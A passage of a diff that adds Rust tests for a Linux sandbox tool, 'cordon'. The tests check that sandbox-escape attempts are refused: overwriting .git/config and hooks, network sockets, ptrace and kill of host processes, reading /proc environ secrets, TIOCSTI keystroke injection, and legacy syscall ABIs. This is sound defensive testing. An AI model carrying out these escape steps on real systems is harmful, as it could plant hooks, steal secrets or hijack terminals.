+    let o = opts_at(c, WORKSPACE_WRITE, &link);
+    c.probe_with(&o, "overwrite", &[s(&link.join(".git/config")), "pwned\n"])?
+        .assert_refused("write .git/config via the symlinked workspace path");
+    c.probe_with(&o, "overwrite", &[s(&git.join("config")), "pwned\n"])?
+        .assert_refused("write .git/config via the canonical path");
+    c.probe_with(&o, "create", &[".git/hooks/pre-commit"])?.assert_refused("relative hook create");
+    assert_tree_unchanged(&before, &git, ".git via symlinked workspace");
+    c.probe_with(&o, "write", &["README", "edited\n"])?.assert_ok("the rest stays writable");
+});
+
+case!(git_protected_inside_writable_root, |c| {
+    let repo = git_ws(c, "other-repo");
+    let ws = c.ws.join("main-ws");
+    c.mkdir(&ws);
+    let git = repo.join(".git");
+    let before = tree(&git);
+    let mut o = opts_at(c, WORKSPACE_WRITE, &ws);
+    o.writable.push(repo.clone());
+    c.probe_with(&o, "overwrite", &[s(&git.join("config")), "pwned\n"])?
+        .assert_refused("write .git/config of a --writable root");
+    c.probe_with(&o, "create", &[s(&git.join("hooks/pre-commit"))])?
+        .assert_refused("create a hook in a --writable root's .git");
+    assert_tree_unchanged(&before, &git, ".git of a writable root");
+    c.probe_with(&o, "write", &[s(&repo.join("README")), "edited\n"])?.assert_ok("writable root stays writable");
+});
+
+case!(git_symlinked_dotgit_refused_or_protected, |c| {
+    // `.git` as a symlink to a directory inside the workspace: cordon may refuse the
+    // policy outright; if it runs the command, the target must still be protected.
+    let ws = c.ws.join("repo");
+    c.mkdir(&ws);
+    c.file(&ws.join("README"), "hello\n");
+    c.host_sh(&format!("cd '{}' && git init -q -b main . && git add README && git commit -q -m init && mv .git realgit && ln -s realgit .git", ws.display()));
+    let real = ws.join("realgit");
+    let before = tree(&real);
+    let mut o = opts_at(c, WORKSPACE_WRITE, &ws);
+    o.expect_error = true;
+    let out = c.cordon(&o, &[s(&c.suite.probe), "overwrite", s(&real.join("config")), "pwned\n"])?;
+    assert_tree_unchanged(&before, &real, &format!("symlinked .git target: {out:?}"));
+    let out = c.cordon(&o, &[s(&c.suite.probe), "symlink-write", "/tmp/x", s(&ws.join(".git"))])?;
+    assert!(fs::read_link(ws.join(".git")).unwrap() == Path::new("realgit"), "the .git symlink was replaced: {out:?}");
+    let out = c.cordon(&o, &["/bin/sh", "-c", "rm -f .git && mkdir .git && echo '[core]' > .git/config"])?;
+    assert!(fs::read_link(ws.join(".git")).is_ok(), "the .git symlink was replaced by a directory: {out:?}");
+});
+
+// =====================================================================================
+// 4. Network: TCP/UDP over v4/v6/v4-mapped, MPTCP, raw/packet, DNS, listening, unix.
+// =====================================================================================
+
+fn net_case(c: &Ctx, op: &str, host: &str, trap_v6: bool, udp: bool) -> Result<(), Skip> {
+    for how in BOTH_AND_HOST {
+        // A fresh listener per attempt, so the control cannot mask the confined run.
+        let (port, check): (String, Box<dyn Fn() -> bool>) = if udp {
+            let t = if trap_v6 { UdpTrap::v6()? } else { UdpTrap::v4() };
+            (t.port_s(), Box::new(move || t.received()))
+        } else {
+            let t = if trap_v6 { TcpTrap::v6()? } else { TcpTrap::v4() };
+            (t.port_s(), Box::new(move || t.connected_within(200)))
+        };
+        let r = attempt(c, how, op, &[host, &port])?;
+        if how == HOST {
+            if !r.ok {
+                return Err(Skip(format!("control failed, host cannot do {op} {host}: {r:?}")));
+            }
+            assert!(check(), "control: {op} to {host} worked but the listener saw nothing");
+            continue;
+        }
+        r.assert_refused_with(NET_DENIED, &format!("{op} to {host}"));
+        assert!(!check(), "{op} to {host}:{port} from {how}: the listener received traffic\n{r:?}");
+    }
+    Ok(())
+}
+
+case!(net_tcp4_connect_denied, |c| {
+    net_case(c, "tcp", "127.0.0.1", false, false)?;
+});
+
+case!(net_tcp6_connect_denied, |c| {
+    net_case(c, "tcp", "::1", true, false)?;
+});
+
+case!(net_tcp_v4_mapped_connect_denied, |c| {
+    net_case(c, "tcp", "::ffff:127.0.0.1", false, false)?;
+});
+
+case!(net_udp4_send_denied, |c| {
+    net_case(c, "udp", "127.0.0.1", false, true)?;
+});
+
+case!(net_udp6_send_denied, |c| {
+    net_case(c, "udp", "::1", true, true)?;
+});
+
+case!(net_udp_v4_mapped_send_denied, |c| {
+    net_case(c, "udp", "::ffff:127.0.0.1", false, true)?;
+});
+
+case!(net_dns_query_denied, |c| {
+    net_case(c, "dns", "127.0.0.1", false, true)?;
+});
+
+case!(net_mptcp_connect_denied, |c| {
+    net_case(c, "mptcp", "127.0.0.1", false, false)?;
+});
+
+case!(net_raw_packet_netlink_ping_denied, |c| {
+    for (op, args) in [("raw", vec![]), ("raw6", vec![]), ("packet", vec![]), ("netlink", vec![]), ("ping", vec!["127.0.0.1"])] {
+        let host = c.host_probe(op, &args);
+        for mode in CONFINED {
+            let r = c.probe(mode, op, &args)?;
+            r.assert_refused(&format!("{op} socket"));
+            if host.ok {
+                // Only meaningful where the host allows it (root: raw/packet; all: netlink).
+                r.assert_refused_with(NET_DENIED, &format!("{op} socket"));
+            }
+        }
+    }
+});
+
+case!(net_every_socket_family_denied, |c| {
+    // Every address family and type (vsock to the VM host, AF_ALG, AF_XDP, CAN, ...).
+    let host = c.host_probe("socket-sweep", &[]);
+    assert!(host.detail != "created=[]", "control: the host can create some sockets: {host:?}");
+    for mode in CONFINED {
+        let r = c.probe(mode, "socket-sweep", &[])?;
+        r.assert_ok("socket sweep");
+        assert_eq!(r.detail, "created=[]", "socket() worked inside for family/type pairs ({mode})");
+    }
+    c.probe(WORKSPACE_WRITE, "socketpair", &[])?.assert_ok("socketpair stays available");
+});
+
+case!(net_listen_unreachable_from_host, |c| {
+    for mode in CONFINED {
+        let port = free_port();
+        let ps = port.to_string();
+        let opts = c.opts(mode);
+        let (tx, rx) = std::sync::mpsc::channel();
+        let h = std::thread::scope(|sc| {
+            let h = sc.spawn(|| {
+                let r = c.probe_with(&opts, "listen", &["127.0.0.1", &ps, "1500"]);
+                let _ = tx.send(());
+                r
+            });
+            let connected = connect_attempts(port, || rx.try_recv().is_ok());
+            (h.join().unwrap(), connected)
+        });
+        let (r, connected) = h;
+        let r = r?;
+        assert!(!connected, "a host client reached a listener opened inside the sandbox ({mode})\n{r:?}");
+        r.assert_refused_with(NET_DENIED, "listen on a TCP port");
+    }
+});
+
+case!(net_unix_pathname_sockets_denied, |c| {
+    for how in BOTH_AND_HOST {
+        let f = fx(c, how);
+        let stream_p = f.out.join("daemon.sock");
+        let dgram_p = f.out.join("daemon.dgram");
+        let stream = UnixTrap::stream_path(c, &stream_p);
+        let dgram = UnixTrap::dgram_path(c, &dgram_p);
+        let r1 = attempt(c, how, "unix-connect", &[s(&stream_p)])?;
+        let r2 = attempt(c, how, "unix-dgram", &[s(&dgram_p)])?;
+        if is_control(how, &r1, "unix stream connect") && is_control(how, &r2, "unix dgram send") {
+            assert!(stream.touched_within(500) && dgram.touched_within(500), "control: daemon saw nothing");
+            continue;
+        }
+        r1.assert_refused_with(NET_DENIED, "connect to a host daemon's pathname unix socket");
+        r2.assert_refused_with(NET_DENIED, "send to a host daemon's pathname unix datagram socket");
+        stream.assert_untouched("pathname unix stream");
+        dgram.assert_untouched("pathname unix dgram");
+    }
+});
+
+case!(net_unix_abstract_sockets_denied, |c| {
+    for how in BOTH_AND_HOST {
+        let name_s = format!("cordon-test-{}", c.unique());
+        let name_d = format!("cordon-test-{}", c.unique());
+        let stream = UnixTrap::stream_abstract(&name_s);
+        let dgram = UnixTrap::dgram_abstract(&name_d);
+        let r1 = attempt(c, how, "unix-abstract", &[&name_s])?;
+        let r2 = attempt(c, how, "unix-abstract-dgram", &[&name_d])?;
+        if is_control(how, &r1, "abstract connect") && is_control(how, &r2, "abstract dgram") {
+            assert!(stream.touched_within(500) && dgram.touched_within(500), "control: daemon saw nothing");
+            continue;
+        }
+        r1.assert_refused_with(NET_DENIED, "connect to an abstract unix socket");
+        r2.assert_refused_with(NET_DENIED, "send to an abstract unix datagram socket");
+        stream.assert_untouched("abstract unix stream");
+        dgram.assert_untouched("abstract unix dgram");
+    }
+});
+
+// =====================================================================================
+// 5. Other processes: signals, ptrace, process_vm_*, /proc/<pid>/*, setns,
+//    priority/rlimit; nothing the command started may outlive its run.
+// =====================================================================================
+
+case!(proc_kill_denied, |c| {
+    for mode in CONFINED {
+        let mut v = c.victim();
+        for op in ["kill", "pidfd-kill"] {
+            let r = c.probe(mode, op, &[&v.pid_s(), "9"])?;
+            v.assert_untouched(&format!("{op} SIGKILL of a host process ({mode})"));
+            r.assert_refused(&format!("{op} of a host process"));
+        }
+        let r = c.probe(mode, "kill", &[&v.pid_s(), "19"])?; // SIGSTOP
+        v.assert_untouched(&format!("SIGSTOP of a host process ({mode})"));
+        r.assert_refused("SIGSTOP of a host process");
+    }
+    let mut ctl = c.victim();
+    c.host_probe("kill", &[&ctl.pid_s(), "9"]).assert_ok("control: kill on the host");
+    std::thread::sleep(Duration::from_millis(50));
+    assert!(ctl.child.try_wait().unwrap().is_some(), "control: the victim survived a host kill");
+});
+
+unpriv_case!(proc_kill_all_denied, |c| {
+    // kill(-1): every process this uid may signal. Only as the dedicated unprivileged
+    // uid: as root a broken sandbox would take the machine down.
+    for mode in CONFINED {
+        let mut v = c.victim();
+        let mut o = c.opts(mode);
+        o.expect_error = true; // judge the victim first, even if cordon itself was hit
+        let out = c.cordon(&o, &[s(&c.suite.probe), "kill", "-1", "15"])?;
+        v.assert_untouched(&format!("kill(-1, SIGTERM) reached a host process ({mode})\n{out:?}"));
+        assert!(out.json.as_ref().is_some_and(|j| j.get("exit_code").is_some()), "{out:?}");
+    }
+});
+
+case!(proc_ptrace_denied, |c| {
+    for mode in CONFINED {
+        let mut v = c.victim();
+        let r = c.probe(mode, "ptrace-attach", &[&v.pid_s()])?;
+        v.assert_untouched(&format!("ptrace attach ({mode})"));
+        r.assert_refused("ptrace(PTRACE_ATTACH) a host process");
+    }
+    let v = c.victim();
+    c.host_probe("ptrace-attach", &[&v.pid_s()]).assert_ok("control: ptrace attach on the host");
+});
+
+case!(proc_vm_readv_denied, |c| {
+    for mode in CONFINED {
+        let v = c.victim();
+        let r = c.probe(mode, "vm-read", &[&v.pid_s(), &v.some_address()])?;
+        r.assert_refused("process_vm_readv of a host process");
+    }
+    let v = c.victim();
+    c.host_probe("vm-read", &[&v.pid_s(), &v.some_address()]).assert_ok("control: process_vm_readv on the host");
+});
+
+case!(proc_procfs_of_host_processes_denied, |c| {
+    for mode in CONFINED {
+        let v = c.victim();
+        let pid = v.pid_s();
+        let env = c.probe(mode, "read", &[&format!("/proc/{pid}/environ")])?;
+        assert!(!env.detail.contains(&v.secret), "read a host process's environ: {env:?}");
+        env.assert_refused("read /proc/<host pid>/environ");
+        c.probe(mode, "proc-mem", &[&pid, &v.some_address()])?.assert_refused("read /proc/<host pid>/mem");
+        let cwd = c.probe(mode, "readlink", &[&format!("/proc/{pid}/cwd")])?;
+        assert!(!cwd.detail.contains(&v.cwd_tag), "readlink /proc/<host pid>/cwd: {cwd:?}");
+        cwd.assert_refused("readlink /proc/<host pid>/cwd");
+        c.probe(mode, "ls", &[&format!("/proc/{pid}/root")])?.assert_refused("list /proc/<host pid>/root");
+        c.probe(mode, "ls", &[&format!("/proc/{pid}/fd")])?.assert_refused("list /proc/<host pid>/fd");
+        let g = c.probe(mode, "proc-grep", &[&v.secret])?;
+        g.assert_ok("scan /proc/*/environ");
+        assert!(g.detail.contains("matches=[]"), "some /proc/*/environ visible inside holds the victim's secret: {g:?}");
+    }
+    let v = c.victim();
+    let ctl = c.host_probe("read", &[&format!("/proc/{}/environ", v.pid)]);
+    assert!(ctl.ok && ctl.detail.contains(&v.secret), "control: environ readable on the host: {ctl:?}");
+});
+
+case!(proc_priority_and_rlimit_denied, |c| {
+    for mode in CONFINED {
+        let v = c.victim();
+        let (nice, limits) = (v.nice(), v.limits());
+        let r1 = c.probe(mode, "setpriority", &[&v.pid_s(), "15"])?;
+        let r2 = c.probe(mode, "prlimit", &[&v.pid_s(), "17"])?;
+        assert_eq!(v.nice(), nice, "setpriority changed a host process's nice value\n{r1:?}");
+        assert_eq!(v.limits(), limits, "prlimit changed a host process's limits\n{r2:?}");
+        r1.assert_refused("setpriority of a host process");
+        r2.assert_refused("prlimit of a host process");
+    }
+    let v = c.victim();
+    let nice = v.nice();
+    c.host_probe("setpriority", &[&v.pid_s(), "15"]).assert_ok("control: setpriority on the host");
+    assert_ne!(v.nice(), nice, "control: nice value observer is blind");
+});
+
+case!(proc_setns_denied, |c| {
+    let v = c.victim();
+    for mode in CONFINED {
+        for ns in ["/proc/self/ns/net", "/proc/self/ns/mnt", "/proc/self/ns/user"] {
+            c.probe(mode, "setns", &[ns])?.assert_refused(&format!("setns({ns})"));
+        }
+        c.probe(mode, "setns", &[&format!("/proc/{}/ns/mnt", v.pid)])?.assert_refused("setns into a host process's mount ns");
+    }
+    if c.id.is_root() {
+        c.host_probe("setns", &["/proc/self/ns/net"]).assert_ok("control: setns on the host (root)");
+    }
+});
+
+/// Host pids whose command line mentions `marker` (processes left behind by a run).
+fn host_pids_with(marker: &str) -> Vec<String> {
+    let mut v = vec![];
+    for e in fs::read_dir("/proc").unwrap().flatten() {
+        let name = e.file_name().to_string_lossy().to_string();
+        if !name.bytes().all(|b| b.is_ascii_digit()) {
+            continue;
+        }
+        if let Ok(cmd) = fs::read(e.path().join("cmdline")) {
+            if String::from_utf8_lossy(&cmd).contains(marker) {
+                v.push(name);
+            }
+        }
+    }
+    v
+}
+
+case!(proc_nothing_outlives_the_run, |c| {
+    let mut checks = vec![];
+    for mode in CONFINED {
+        // The survivor's path argument is unique, so it is findable in host
+        // /proc/*/cmdline (any mode); in workspace-write its late write could also land.
+        let w = c.ws.join(format!("lifetime-{mode}"));
+        c.mkdir(&w);
+        for op in ["daemonize", "background"] {
+            let p = w.join(format!("{op}-survived-{}", c.unique()));
+            let r = c.probe(mode, op, &["1000", s(&p)])?;
+            r.assert_ok(&format!("{op}: forking must work"));
+            let left = host_pids_with(s(&p));
+            assert!(left.is_empty(), "{op} ({mode}): processes {left:?} outlived the run\n{r:?}");
+            checks.push((p, SystemTime::now(), format!("{op} ({mode})")));
+        }
+    }
+    let ctl = c.outside.join("control-daemon-survived");
+    c.host_probe("daemonize", &["1000", s(&ctl)]).assert_ok("control daemonize");
+    std::thread::sleep(Duration::from_millis(2500));
+    assert!(ctl.exists(), "control: a host daemon should have written {} by now", ctl.display());
+    for (p, ended, what) in checks {
+        if let Ok(m) = fs::metadata(&p) {
+            let written = m.modified().unwrap();
+            assert!(
+                written <= ended,
+                "{what}: a process started inside the sandbox wrote {} after the run ended",
+                p.display()
+            );
+        }
+    }
+});
+
+case!(proc_killing_cordon_kills_the_sandbox, |c| {
+    // cordon itself dies (SIGKILL, no cleanup): what it started must not live on.
+    use std::os::unix::process::CommandExt;
+    for mode in CONFINED {
+        let mark = c.ws.join(format!("orphan-{}", c.unique()));
+        let script = format!(
+            "'{p}' daemonize 20000 '{m}-daemon' >/dev/null; exec '{p}' sleep 20000 '{m}-main'",
+            p = s(&c.suite.probe),
+            m = s(&mark)
+        );
+        let mut cmd = std::process::Command::new(&c.suite.cordon);
+        cmd.env_clear().env("PATH", "/usr/bin:/bin").env("HOME", &c.id.home);
+        if c.id.uid != unsafe { libc::geteuid() } {
+            cmd.uid(c.id.uid).gid(c.id.gid);
+        }
+        cmd.args(["run", "--json", "--mode", mode, "--cwd", s(&c.ws), "--", "/bin/sh", "-c", &script])
+            .current_dir(&c.ws)
+            .stdin(std::process::Stdio::null())
+            .stdout(std::process::Stdio::null())
+            .stderr(std::process::Stdio::null());
+        let mut child = cmd.spawn().unwrap();
+        let marker = s(&mark).to_string();
+        let started = std::time::Instant::now();
+        while host_pids_with(&marker).len() < 2 && started.elapsed() < Duration::from_secs(10) {
+            std::thread::sleep(Duration::from_millis(20));
+        }
+        let before = host_pids_with(&marker);
+        child.kill().unwrap();
+        child.wait().unwrap();
+        let deadline = std::time::Instant::now() + Duration::from_secs(3);
+        let mut left = host_pids_with(&marker);
+        while !left.is_empty() && std::time::Instant::now() < deadline {
+            std::thread::sleep(Duration::from_millis(20));
+            left = host_pids_with(&marker);
+        }
+        for pid in &left {
+            let _ = std::process::Command::new("kill").args(["-9", pid]).status();
+        }
+        if before.is_empty() {
+            return Err(Skip(format!("the sandboxed processes never appeared ({mode})")));
+        }
+        assert!(left.is_empty(), "processes {left:?} outlived a SIGKILLed cordon ({mode}; were {before:?})");
+    }
+});
+
+// =====================================================================================
+// 6. Terminal injection: TIOCSTI, TIOCLINUX, including the high-bit ioctl variant.
+// =====================================================================================
+
+case!(tty_ioctls_filtered_even_on_non_tty, |c| {
+    // On /dev/null the kernel answers ENOTTY; any other refusal is the filter's.
+    for mode in CONFINED {
+        for op in ["tiocsti", "tiocsti-hi", "tioclinux", "tioclinux-hi"] {
+            let r = c.probe(mode, op, &["/dev/null"])?;
+            r.assert_refused(op);
+            assert!(
+                r.errname != "ENOTTY",
+                "{op} reached the kernel (ENOTTY from /dev/null): seccomp does not filter it\n{r:?}"
+            );
+        }
+    }
+    let ctl = c.host_probe("tiocsti-hi", &["/dev/null"]);
+    assert_eq!(ctl.errname, "ENOTTY", "control: unfiltered host answers ENOTTY: {ctl:?}");
+});
+
+case!(tty_tiocsti_into_a_host_pty_denied, |c| {
+    for mode in CONFINED {
+        for op in ["tiocsti", "tiocsti-hi"] {
+            let pty = Pty::new(c)?;
+            let r = c.probe(mode, op, &[s(&pty.slave_path), "echo cordon-injected\n"])?;
+            let got = pty.pending_input(200);
+            assert!(!got.contains("cordon-injected"), "{op}: injected {got:?} into a host terminal ({mode})\n{r:?}");
+            r.assert_refused(op);
+        }
+    }
+    for op in ["tiocsti", "tiocsti-hi"] {
+        let pty = Pty::new(c)?;
+        c.host_probe(op, &[s(&pty.slave_path), "cordon-control"]).assert_ok(&format!("control: {op} on the host"));
+        assert!(pty.pending_input(500).contains("cordon-control"), "control: {op} observer is blind");
+    }
+});
+
+case!(tty_tiocsti_via_inherited_stdin_denied, |c| {
+    for mode in CONFINED {
+        let pty = Pty::new(c)?;
+        let mut o = c.opts(mode);
+        o.stdin = Some(pty.slave.clone());
+        let r = c.probe_with(&o, "tiocsti-hi", &["-", "echo cordon-injected\n"])?;
+        let got = pty.pending_input(200);
+        if r.errname == "ENOTTY" {
+            // cordon did not hand the terminal itself to the command (stdin is a pipe or
+            // /dev/null inside): nothing to inject into, which is fine.
+            loud(&format!("NOTE tty_tiocsti_via_inherited_stdin_denied: stdin inside is not a tty ({mode})"));
+        }
+        assert!(!got.contains("cordon-injected"), "TIOCSTI via stdin injected {got:?} ({mode})\n{r:?}");
+        r.assert_refused("TIOCSTI on an inherited terminal stdin");
+    }
+});
+
+// =====================================================================================
+// 7. Syscall paths that bypass filters: io_uring, i386/x32 ABIs, clone3.
+// =====================================================================================
+
+case!(abi_io_uring_denied, |c| {
+    for mode in CONFINED {
+        c.probe(mode, "io_uring", &[])?.assert_refused_with(FILTERED, "io_uring_setup");
+    }
+    c.host_probe("io_uring", &[]).assert_ok("control: io_uring on the host");
+});
+
+case!(abi_i386_entry_denied, |c| {
+    for mode in CONFINED {
+        c.probe(mode, "i386-getpid", &[])?.assert_refused_with(FILTERED, "int 0x80 getpid");
+        c.probe(mode, "i386-unshare-user", &[])?.assert_refused_with(FILTERED, "int 0x80 unshare(CLONE_NEWUSER)");
+        for op in ["i386-udp", "i386-udp-socketcall"] {
+            let t = UdpTrap::v4();
+            let r = c.probe(mode, op, &[&t.port_s()])?;
+            t.assert_untouched(&format!("{op} ({mode})"));
+            r.assert_refused_with(FILTERED, op);
+        }
+        let t = TcpTrap::v4();
+        let r = c.probe(mode, "i386-tcp", &[&t.port_s()])?;
+        t.assert_untouched(&format!("i386-tcp ({mode})"));
+        r.assert_refused_with(FILTERED, "i386-tcp");
+    }
+    let ctl = c.host_probe("i386-getpid", &[]);
+    if !ctl.ok {
+        return Err(Skip(format!("host has no i386 entry point (IA32 emulation off?): {ctl:?}")));
+    }
+    let t = UdpTrap::v4();
+    c.host_probe("i386-udp", &[&t.port_s()]).assert_ok("control: i386 UDP on the host");
+    assert!(t.received(), "control: i386 UDP observer is blind");
+});
+
+case!(abi_x32_entry_denied, |c| {
+    for mode in CONFINED {
+        c.probe(mode, "x32-getpid", &[])?.assert_refused_with(FILTERED, "x32 getpid");
+        c.probe(mode, "x32-unshare-user", &[])?.assert_refused_with(FILTERED, "x32 unshare");
+        let t = UdpTrap::v4();
+        let r = c.probe(mode, "x32-udp", &[&t.port_s()])?;
+        t.assert_untouched("x32 UDP");
+        r.assert_refused_with(FILTERED, "x32 UDP");
+    }
+    if !c.host_probe("x32-getpid", &[]).ok {
+        // Still asserted above, but this kernel cannot show a bypass (CONFIG_X86_X32_ABI off).
+        loud("NOTE abi_x32_entry_denied: host kernel has no x32 ABI; the refusal inside is the kernel's");
+    }
+});
+
+case!(abi_clone3_and_namespace_clones_denied, |c| {
+    for mode in CONFINED {
+        // clone3 must be ENOSYS (so libc falls back to clone, where flags are visible).
+        c.probe(mode, "clone3", &[])?.assert_refused_with(&["ENOSYS"], "clone3");
+        c.probe(mode, "clone3-userns", &[])?.assert_refused_with(FILTERED, "clone3(CLONE_NEWUSER)");
+        c.probe(mode, "clone-userns", &[])?.assert_refused_with(FILTERED, "clone(CLONE_NEWUSER)");
+        c.probe(mode, "clone-netns", &[])?.assert_refused("clone(CLONE_NEWNET)");
+        c.probe(mode, "fork", &[])?.assert_ok("plain fork must keep working");
+    }
+    for op in ["clone3", "clone3-userns", "clone-userns"] {
+        c.host_probe(op, &[]).assert_ok(&format!("control: {op} on the host"));
+    }
+});
+
+// =====================================================================================
+// 8. Privilege: capabilities, no_new_privs, user namespaces, bpf, perf, userfaultfd,
+//    keyrings, mounts, device nodes.
+// =====================================================================================
+
+case!(priv_no_capabilities_nnp_and_seccomp, |c| {
+    for mode in CONFINED {
+        let r = c.probe(mode, "caps", &[])?;
+        r.assert_ok("read /proc/self/status");
+        let f = status_fields(&r.detail);
+        for k in ["CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"] {
+            assert_eq!(f.get(k).map(String::as_str), Some("0000000000000000"), "{k} not empty ({mode}): {r:?}");
+        }
+        assert_eq!(f.get("NoNewPrivs").map(String::as_str), Some("1"), "no_new_privs unset: {r:?}");
+        assert_eq!(f.get("Seccomp").map(String::as_str), Some("2"), "no seccomp filter: {r:?}");
+        c.probe(mode, "nnp", &[])?.assert_ok("prctl").detail.contains("nnp=1").then_some(()).expect("nnp=1");
+    }
+    let host = status_fields(&c.host_probe("caps", &[]).detail);
+    assert_ne!(host.get("CapBnd").map(String::as_str), Some("0000000000000000"), "control: host bounding set");
+});
+
+unpriv_case!(priv_setuid_binary_grants_nothing, |c| {
+    let Some(suid) = c.suite.probe_suid.clone() else { return Err(Skip("no setuid probe".into())) };
+    let host = c.host_cmd(&suid).arg("ids").output().unwrap();
+    let host = String::from_utf8_lossy(&host.stdout).to_string();
+    if !host.contains("euid=0") {
+        return Err(Skip(format!("setuid does not work in the suite dir (nosuid?): {host}")));
+    }
+    for mode in CONFINED {
+        let r = c.probe_bin_with(&suid, &c.opts(mode), "ids", &[])?;
+        assert!(!r.detail.contains("euid=0"), "a setuid-root binary gained root inside ({mode}): {r:?}");
+    }
+});
+
+case!(priv_user_namespaces_denied, |c| {
+    for mode in CONFINED {
+        for ns in ["user", "net", "ns", "user,net", "ipc", "pid"] {
+            c.probe(mode, "unshare", &[ns])?.assert_refused(&format!("unshare({ns})"));
+        }
+    }
+    c.host_probe("unshare", &["user"]).assert_ok("control: unshare(CLONE_NEWUSER) on the host");
+});
+
+case!(priv_bpf_perf_userfaultfd_denied, |c| {
+    for op in ["bpf", "perf", "userfaultfd"] {
+        let host = c.host_probe(op, &[]);
+        for mode in CONFINED {
+            let r = c.probe(mode, op, &[])?;
+            r.assert_refused(op);
+            if host.ok {
+                r.assert_refused_with(FILTERED, op);
+            }
+        }
+        if op != "bpf" || c.id.is_root() {
+            host.assert_ok(&format!("control: {op} on the host"));
+        }
+    }
+});
+
+case!(priv_keyrings_denied, |c| {
+    for mode in CONFINED {
+        let desc = format!("cordon-test-{}", c.unique());
+        let r = c.probe(mode, "add-key", &[&desc])?;
+        let found = c.host_probe("key-search", &[&desc, "purge"]);
+        assert!(!found.ok, "add_key from inside landed in the host user keyring ({mode}): {r:?}");
+        r.assert_refused_with(FILTERED, "add_key");
+        c.probe(mode, "keyctl", &[])?.assert_refused_with(FILTERED, "keyctl");
+    }
+    let desc = format!("cordon-test-{}", c.unique());
+    c.host_probe("add-key", &[&desc]).assert_ok("control: add_key on the host");
+    c.host_probe("key-search", &[&desc, "purge"]).assert_ok("control: key visible on the host");
+});
+
+/// Refuses to go on unless the probe really runs confined (no effective capabilities):
+/// some cases attempt operations that must never run as root on the host itself.
+fn require_confined(c: &Ctx, mode: &str) -> Result<(), Skip> {
+    let r = c.probe(mode, "caps", &[])?;
+    let f = status_fields(&r.detail);
+    assert_eq!(
+        f.get("CapEff").map(String::as_str),
+        Some("0000000000000000"),
+        "not attempting host-damaging operations: the command runs with capabilities ({mode}): {r:?}"
+    );
+    Ok(())
+}
+
+case!(priv_mounts_and_chroot_denied, |c| {
+    for mode in CONFINED {
+        require_confined(c, mode)?;
+        let mnt = c.ws.join(format!("mnt-{mode}"));
+        c.mkdir(&mnt);
+        c.probe(mode, "mount-tmpfs", &[s(&mnt)])?.assert_refused("mount tmpfs");
+        let f = c.outside.join(format!("remount-{mode}"));
+        c.probe(mode, "remount-write", &["/", s(&f)])?.assert_refused("remount / rw then write");
+        assert_absent(&f, "remount / rw");
+        let f2 = c.outside.join(format!("umount-{mode}"));
+        c.probe(mode, "umount-write", &["/", s(&f2)])?.assert_refused("umount / then write");
+        assert_absent(&f2, "umount /");
+        c.probe(mode, "chroot", &[s(&c.ws)])?.assert_refused("chroot");
+    }
+});
+
+case!(priv_device_nodes_denied, |c| {
+    for mode in CONFINED {
+        for dir in [&c.ws, &c.outside] {
+            let node = dir.join(format!("null-{mode}"));
+            c.probe(mode, "mknod", &[s(&node)])?.assert_refused("mknod a character device");
+            assert_absent(&node, "mknod");
+        }
+    }
+    if c.id.is_root() {
+        let node = c.outside.join("control-node");
+        c.host_probe("mknod", &[s(&node)]).assert_ok("control: mknod as root on the host");
+        let _ = fs::remove_file(node);
+    }
+});
+
+case!(priv_existing_device_nodes_not_writable, |c| {
+    // Opened for writing only; nothing is ever written.
+    let devs = ["/dev/loop0", "/dev/loop-control", "/dev/kvm", "/dev/tty1", "/dev/vda", "/dev/sda", "/dev/fuse", "/dev/net/tun"];
+    for mode in CONFINED {
+        for d in devs {
+            if !Path::new(d).exists() {
+                continue;
+            }
+            c.probe(mode, "open-w", &[d])?.assert_refused(&format!("open {d} for writing"));
+        }
+        c.probe(mode, "userfaultfd-dev", &[])?.assert_refused("userfaultfd via /dev/userfaultfd");
+        c.probe(mode, "open-w", &["/dev/null"])?.assert_ok("/dev/null stays writable");
+    }
+    if c.id.is_root() && Path::new("/dev/loop0").exists() {
+        c.host_probe("open-w", &["/dev/loop0"]).assert_ok("control: root opens /dev/loop0 for writing on the host");
+    }
+});
+
+// =====================================================================================
+// 9. Leaks across the boundary: inherited fds, host /tmp and /dev/shm, SysV/POSIX IPC,
+//    $HOME dotfiles.
+// =====================================================================================
+
+case!(leak_inherited_fds_closed, |c| {
+    for mode in CONFINED {
+        let sink = c.file(&c.outside.join(format!("fd-sink-{mode}")), "");
+        let f = open_append(&sink);
+        let mut o = c.opts(mode);
+        o.inherit_fds = vec![(raw(&f), 5), (raw(&f), 100)];
+        let r = c.probe_with(&o, "fds", &[])?;
+        r.assert_ok("list fds");
+        assert_eq!(r.detail, "", "fds other than 0/1/2 crossed into the sandbox ({mode}): {r:?}");
+        for fd in ["5", "100"] {
+            c.probe_with(&o, "fd-write", &[fd, "leaked\n"])?.assert_refused(&format!("write to inherited fd {fd}"));
+        }
+        assert_eq!(fs::read_to_string(&sink).unwrap(), "", "data arrived through an inherited fd");
+        // And with no extra fds at all, cordon's own descriptors must not leak either.
+        let r = c.probe(mode, "fds", &[])?;
+        assert_eq!(r.detail, "", "cordon leaked its own fds into the command ({mode}): {r:?}");
+    }
+});
+
+/// A host file under /tmp (or /dev/shm), removed when dropped.
+struct HostTmp(PathBuf);
+impl Drop for HostTmp {
+    fn drop(&mut self) {
+        let _ = fs::remove_file(&self.0);
+    }
+}
+
+case!(leak_host_tmp_invisible, |c| {
+    for mode in CONFINED {
+        let tag = c.unique();
+        let secret = format!("host-tmp-secret-{tag}");
+        let host = HostTmp(PathBuf::from(format!("/tmp/cordon-tests-{}-secret-{tag}", std::process::id())));
+        c.file(&host.0, &secret);
+        let sent = Sentinel::record(&host.0);
+        let r = c.probe(mode, "read", &[s(&host.0)])?;
+        assert!(!r.detail.contains(&secret), "host /tmp content visible inside ({mode}): {r:?}");
+        r.assert_refused("read a host /tmp file");
+        let ls = c.probe(mode, "ls", &["/tmp"])?;
+        assert!(!ls.detail.contains(&tag), "host /tmp listing visible inside: {ls:?}");
+        let _ = c.probe(mode, "overwrite", &[s(&host.0), "pwned"])?;
+        sent.assert_unchanged("write to a host /tmp file");
+        let created = HostTmp(PathBuf::from(format!("/tmp/cordon-tests-{}-created-{tag}", std::process::id())));
+        let _ = c.probe(mode, "create", &[s(&created.0)])?;
+        assert_absent(&created.0, "a file created in /tmp inside must not appear in host /tmp");
+    }
+    let host = HostTmp(PathBuf::from(format!("/tmp/cordon-tests-{}-ctl-{}", std::process::id(), c.unique())));
+    c.file(&host.0, "x");
+    c.host_probe("read", &[s(&host.0)]).assert_ok("control: host /tmp readable on the host");
+});
+
+case!(leak_tmp_private_per_run, |c| {
